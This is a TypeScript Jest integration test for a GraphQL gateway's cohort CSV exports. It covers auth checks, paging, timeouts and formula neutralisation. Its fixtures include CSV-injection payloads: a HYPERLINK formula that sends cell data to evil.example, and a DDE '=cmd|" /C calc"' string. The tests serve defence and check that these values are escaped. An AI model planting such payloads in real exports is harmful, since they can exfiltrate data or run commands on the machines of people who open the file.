import 'reflect-metadata';
import type { AddressInfo } from 'node:net';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { mercuriusFederationPlugin } from '@mercuriusjs/federation';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { signToken, type Role } from '#auth';
import { resolveAuthSettings } from '#platform';
import { parseCsv, testLogger } from '#testing';
import { startGateway } from '../bootstrap.js';
import type { SubgraphEndpoint } from '../config.js';
import { testGatewayConfig } from '../testing/gateway-config.js';

// The CSV exports through the real gateway (hooks, composed schema, execution) against two small
// federation subgraphs on real ports that play the services' parts of the schema the exports read:
//  - people: Cohort with its enrollments (a Relay connection), Enrollment.returnOffer, the Intern
//    entity, mentor(id), cohortReport;
//  - evals: extends Intern with evaluations, progress and mentorAssignments.

const config = testGatewayConfig({ SUBGRAPH_WAIT_MS: '5000', GRAPHQL_EXECUTION_TIMEOUT_MS: '2000' });
const secret = resolveAuthSettings(config).secret!;

const INTERNS = 120; // three pages of 50
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

interface Intern {
  id: string;
  name: string;
  email: string;
  university: string;
}

const interns: Intern[] = Array.from({ length: INTERNS }, (_, i) => ({
  id: `i-${String(i + 1).padStart(3, '0')}`,
  name: `Intern ${i + 1}`,
  email: `intern${i + 1}@example.com`,
  university: 'Uni',
}));
interns[0]!.name = EVIL_NAME;
interns[1]!.name = 'Smith, "Jo"\nsecond line';
interns[2]!.name = 'Zoë 東京 👩‍💻';
interns[3]!.university = '@SUM(1+1)';

const mentors = [
  { id: 'm-1', name: 'Mentor One' },
  { id: 'm-2', name: 'Mentor, "Two"' },
];

const peopleSchema = `
  type Query {
    cohort(id: ID!): Cohort
    mentor(id: ID!): Mentor
    cohortReport(cohortId: ID!): CohortReport!
  }
  type Mentor @key(fields: "id") { id: ID! name: String! }
  type PageInfo { hasNextPage: Boolean! endCursor: String }
  type Cohort @key(fields: "id") {
    id: ID!
    name: String!
    enrollments(first: Int, after: String): EnrollmentConnection!
  }
  type EnrollmentConnection { edges: [EnrollmentEdge!]! pageInfo: PageInfo! totalCount: Int! }
  type EnrollmentEdge { cursor: String! node: Enrollment! }
  type ReturnOfferDecision { recommendation: String status: String decidedAt: String }
  type Enrollment {
    internId: ID!
    status: String!
    extensionWeeks: Int!
    outcome: String
    returnOffer: ReturnOfferDecision
    intern: Intern!
  }
  type Intern @key(fields: "id") { id: ID! name: String! email: String! university: String! }
  type ReturnOfferCounts { strongYes: Int! recommended: Int! recommendationRate: Float }
  type ProgramNps { score: Float responses: Int! }
  type CompetencyAverage { competency: String! name: String! average: Float count: Int! }
  type MentorCalibration { mentorId: ID! }
  type Calibration { cohortMean: Float mentors: [MentorCalibration!]! }
  type CohortReport {
    cohortId: ID!
    cohortName: String
    interns: Int!
    passRate: Float
    returnOffers: ReturnOfferCounts!
    programNps: ProgramNps!
    rubricAverages: [CompetencyAverage!]!
    mentorCalibration: Calibration!
  }
`;

const evalsSchema = `
  extend type Mentor @key(fields: "id") { id: ID! @external }
  type MentorAssignment { cohortId: ID! role: String! active: Boolean! mentor: Mentor }
  type Evaluation {
    cohortId: ID! kind: String! cycle: String! decision: String returnOffer: String authorId: ID! submittedAt: String!
  }
  type InternProgress { cohortId: ID! riskLevel: String! }
  extend type Intern @key(fields: "id") {
    id: ID! @external
    mentorAssignments: [MentorAssignment!]!
    evaluations: [Evaluation!]!
    progress: InternProgress
  }
`;

interface Seen {
  authorization?: string;
  after?: string | null;
}

const seenByPeople: Seen[] = [];
const seenByEvals: Seen[] = [];
/** While set, the page after this cursor waits for `release`. */
let holdAfter: string | undefined;
let release: (() => void) | undefined;
let held: Promise<void> | undefined;
/** A cohort whose second page fails. */
const BROKEN = 'c-broken';
/** A cohort whose pages take longer than GRAPHQL_EXECUTION_TIMEOUT_MS. */
const SLOW = 'c-slow';

function page(cohortId: string, first: number, after: string | null) {
  const start = after ? Number(after) : 0;
  if (cohortId === BROKEN && start > 0) throw new Error('database gone');
  const slice = interns.slice(start, start + first);
  return {
    edges: slice.map((intern, k) => ({
      cursor: String(start + k + 1),
      node: {
        internId: intern.id,
        status: intern.id === 'i-005' ? 'WITHDRAWN' : 'COMPLETED',
        extensionWeeks: intern.id === 'i-002' ? 2 : 0,
        outcome: intern.id === 'i-001' ? 'PASS' : null,
        returnOffer:
          intern.id === 'i-001'
            ? { recommendation: 'STRONG_YES', status: 'ACCEPTED', decidedAt: '2027-09-01T10:00:00.000Z' }
            : null,
        intern,
      },
    })),
    pageInfo: {
      hasNextPage: start + first < interns.length,
      endCursor: slice.length ? String(start + slice.length) : null,
    },
    totalCount: interns.length,
  };
}

function createPeople(): FastifyInstance {
  const app = Fastify();
  app.addHook('preHandler', async (request) => {
    if (!request.url.startsWith('/graphql')) return;
    const variables = (request.body as { variables?: { after?: string | null } } | undefined)?.variables;
    seenByPeople.push({ authorization: request.headers.authorization, after: variables?.after });
  });
  app.get('/health/ready', async () => ({ status: 'ok' }));
  void app.register(mercuriusFederationPlugin, {
    schema: peopleSchema,
    resolvers: {
      Query: {
        cohort: (_: unknown, { id }: { id: string }) =>
          ['c-1', BROKEN, SLOW].includes(id) ? { id, name: 'Cohort' } : null,
        mentor: (_: unknown, { id }: { id: string }) => mentors.find((m) => m.id === id) ?? null,
        cohortReport: (_: unknown, { cohortId }: { cohortId: string }) => ({
          cohortId,
          cohortName: '=cmd|" /C calc"!A0',
          interns: 120,
          passRate: 0.75,
          returnOffers: { strongYes: 3, recommended: 5, recommendationRate: null },
          programNps: { score: -20, responses: 10 },
          rubricAverages: [{ competency: 'COMMUNICATION', name: 'Communication', average: 3.5, count: 12 }],
          mentorCalibration: { cohortMean: 3.2, mentors: [{ mentorId: 'm-1' }] },
        }),
      },
      Cohort: {
        enrollments: async (cohort: { id: string }, { first, after }: { first: number; after: string | null }) => {
          if (holdAfter !== undefined && after === holdAfter) await held;
          if (cohort.id === SLOW) await new Promise((r) => setTimeout(r, 2500));
          return page(cohort.id, first, after ?? null);
        },
      },
      Intern: {
        __resolveReference: (ref: { id: string }) => interns.find((i) => i.id === ref.id),
      },
      Mentor: {
        __resolveReference: (ref: { id: string }) => mentors.find((m) => m.id === ref.id),
      },
    } as never,
  });
  return app;
}

function createEvals(): FastifyInstance {
  const app = Fastify();
  app.addHook('preHandler', async (request) => {
    if (request.url.startsWith('/graphql')) seenByEvals.push({ authorization: request.headers.authorization });
  });
  app.get('/health/ready', async () => ({ status: 'ok' }));
  void app.register(mercuriusFederationPlugin, {
    schema: evalsSchema,
    resolvers: {
      Intern: {
        __resolveReference: (ref: { id: string }) => ref,
        mentorAssignments: (i: { id: string }) =>
          i.id === 'i-001' ? [{ cohortId: 'c-1', role: 'PRIMARY', active: true, mentor: { id: 'm-1' } }] : [],
        evaluations: (i: { id: string }) =>
          i.id === 'i-002'
            ? [
                {
                  cohortId: 'c-1',
                  kind: 'MENTOR',
                  cycle: 'MIDPOINT',
                  decision: 'EXTEND',
                  returnOffer: null,
                  authorId: 'm-2',
                  submittedAt: '2027-07-01',
                },
                {
                  cohortId: 'c-1',
                  kind: 'MENTOR',
                  cycle: 'FINAL',
                  decision: 'FAIL',
                  returnOffer: 'NO',
                  authorId: 'm-2',
                  submittedAt: '2027-09-01',
                },
                {
                  cohortId: 'c-0',
                  kind: 'MENTOR',
                  cycle: 'FINAL',
                  decision: 'PASS',
                  returnOffer: 'YES',
                  authorId: 'm-9',
                  submittedAt: '2026-09-01',
                },
              ]
            : [],
        progress: (i: { id: string }) =>
          i.id === 'i-001'
            ? { cohortId: 'c-1', riskLevel: 'RED' }
            : i.id === 'i-003'
              ? { cohortId: 'c-9', riskLevel: 'AMBER' }
              : null,
      },
    } as never,
  });
  return app;
}

let people: FastifyInstance;
let evals: FastifyInstance;
let gateway: NestFastifyApplication;
let base: string;

const bearer = async (roles: Role[], sub = 'pm-1') => `Bearer ${await signToken(secret, { sub, roles })}`;

async function get(path: string, authorization?: string): Promise<Response> {
  return fetch(`${base}${path}`, { headers: authorization ? { authorization } : {} });
}

async function codeOf(res: Response): Promise<string> {
  return ((await res.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code;
}

beforeAll(async () => {
  people = createPeople();
  evals = createEvals();
  await people.listen({ host: '127.0.0.1', port: 0 });
  await evals.listen({ host: '127.0.0.1', port: 0 });
  const url = (app: FastifyInstance) => `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/graphql`;
  const endpoints: SubgraphEndpoint[] = [
    { name: 'people', url: url(people) },
    { name: 'evals', url: url(evals) },
  ];
  gateway = await startGateway(config, testLogger(), endpoints);
  base = `http://127.0.0.1:${(gateway.getHttpServer().address() as AddressInfo).port}`;
});

afterAll(async () => {
  release?.();
  await gateway?.close();
  await people?.close();
  await evals?.close();
});

describe('GET /exports/cohorts/:id/interns.csv', () => {
  it('refuses without a token (401), with a bad one (401), for a mentor or an intern (403)', async () => {
    const none = await get('/exports/cohorts/c-1/interns.csv');
    expect(none.status).toBe(401);
    expect(none.headers.get('www-authenticate')).toBe('Bearer');
    expect(await codeOf(none)).toBe('UNAUTHENTICATED');
    const bad = await get('/exports/cohorts/c-1/interns.csv', 'Bearer not.a.token');
    expect(bad.status).toBe(401);
    for (const role of ['MENTOR', 'INTERN'] as Role[]) {
      const res = await get('/exports/cohorts/c-1/interns.csv', await bearer([role], 'someone'));
      expect(res.status).toBe(403);
      expect(await codeOf(res)).toBe('FORBIDDEN');
    }
  });

  it('answers 404 for an unknown cohort or a malformed id', async () => {
    const pm = await bearer(['PROGRAM_MANAGER']);
    for (const path of [
      '/exports/cohorts/c-404/interns.csv',
      '/exports/cohorts/c-404/report.csv',
      '/exports/cohorts/a%20b/interns.csv',
    ]) {
      const res = await get(path, pm);
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
      expect(await codeOf(res)).toBe('NOT_FOUND');
    }
  });

  it('streams one row per intern, page by page, as the subgraphs answer, with the caller’s token', async () => {
    seenByPeople.length = 0;
    seenByEvals.length = 0;
    const pm = await bearer(['PROGRAM_MANAGER']);
    held = new Promise<void>((resolve) => (release = resolve));
    holdAfter = '50';
    try {
      const res = await get('/exports/cohorts/c-1/interns.csv', pm);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="cohort-c-1-interns.csv"; filename*=UTF-8''cohort-c-1-interns.csv`,
      );
      expect(res.headers.get('content-length')).toBeNull();
      // The first page arrives while the second is still held by the subgraph.
      const reader = res.body!.getReader();
      const decoder = new TextDecoder();
      let text = '';
      while (!text.includes('i-050')) {
        const { value, done } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
      }
      expect(text).toContain('i-050');
      expect(text).not.toContain('i-051');
      release!();
      for (;;) {
        const { value, done } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
      }
      const records = parseCsv(text);
      expect(records[0]).toEqual([
        'intern_id',
        'name',
        'email',
        'university',
        'enrollment_status',
        'primary_mentor_id',
        'primary_mentor',
        'risk',
        'extension_weeks',
        'midpoint_decision',
        'final_outcome',
        'return_offer_recommendation',
        'return_offer_status',
        'return_offer_decided_at',
      ]);
      expect(records).toHaveLength(INTERNS + 1);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(records.slice(1).map((r) => r[0])).toEqual(interns.map((i) => i.id));
      expect(records[1]).toEqual([
        'i-001',
        `'${EVIL_NAME}`,
        'intern1@example.com',
        'Uni',
        'COMPLETED',
        'm-1',
        'Mentor One',
        'RED',
        '0',
        '',
        'PASS',
        'STRONG_YES',
        'ACCEPTED',
        '2027-09-01T10:00:00.000Z',
      ]);
      // Primary mentor from the evaluations once no assignment is active, named through mentor(id).
      expect(records[2]).toEqual([
        'i-002',
        'Smith, "Jo"\nsecond line',
        'intern2@example.com',
        'Uni',
        'COMPLETED',
        'm-2',
        'Mentor, "Two"',
        '',
        '2',
        'EXTEND',
        'FAIL',
        '',
        '',
        '',
      ]);
      expect(records[3]![1]).toBe('Zoë 東京 👩‍💻');
      expect(records[3]![7]).toBe(''); // progress of another cohort
      expect(records[4]![3]).toBe("'@SUM(1+1)");
      expect(records[5]![4]).toBe('WITHDRAWN');
      // Three pages, each with the caller's token; the evaluations subgraph got it too.
      expect(seenByPeople.filter((s) => s.after !== undefined).map((s) => s.after)).toEqual([null, '50', '100']);
      expect(new Set([...seenByPeople, ...seenByEvals].map((s) => s.authorization))).toEqual(new Set([pm]));
    } finally {
      holdAfter = undefined;
      release?.();
    }
  });

  it('answers 504 EXECUTION_TIMEOUT when the services take longer than GRAPHQL_EXECUTION_TIMEOUT_MS', async () => {
    const res = await get(`/exports/cohorts/${SLOW}/interns.csv`, await bearer(['PROGRAM_MANAGER']));
    expect(res.status).toBe(504);
    expect(await codeOf(res)).toBe('EXECUTION_TIMEOUT');
  });

  it('aborts the download when a later page fails (never a complete-looking file)', async () => {
    const res = await get(`/exports/cohorts/${BROKEN}/interns.csv`, await bearer(['PROGRAM_MANAGER']));
    expect(res.status).toBe(200);
    await expect(res.text()).rejects.toThrow();
  });
});

describe('GET /exports/cohorts/:id/report.csv', () => {
  it('writes the cohort report as metric,value rows: numbers as numbers, text neutralised', async () => {
    const res = await get('/exports/cohorts/c-1/report.csv', await bearer(['PROGRAM_MANAGER']));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('filename="cohort-c-1-report.csv"');
    const text = await res.text();
    expect(parseCsv(text)).toEqual([
      ['metric', 'value'],
      ['cohortId', 'c-1'],
      ['cohortName', `'=cmd|" /C calc"!A0`],
      ['interns', '120'],
      ['passRate', '0.75'],
      ['returnOffers.strongYes', '3'],
      ['returnOffers.recommended', '5'],
      ['returnOffers.recommendationRate', ''],
      ['programNps.score', '-20'],
      ['programNps.responses', '10'],
      ['mentorCalibration.cohortMean', '3.2'],
      ['rubricAverages.COMMUNICATION.average', '3.5'],
      ['rubricAverages.COMMUNICATION.count', '12'],
    ]);
  });

  it('is for program managers only', async () => {
    expect((await get('/exports/cohorts/c-1/report.csv')).status).toBe(401);
    expect((await get('/exports/cohorts/c-1/report.csv', await bearer(['MENTOR'], 'm-1'))).status).toBe(403);
  });
});
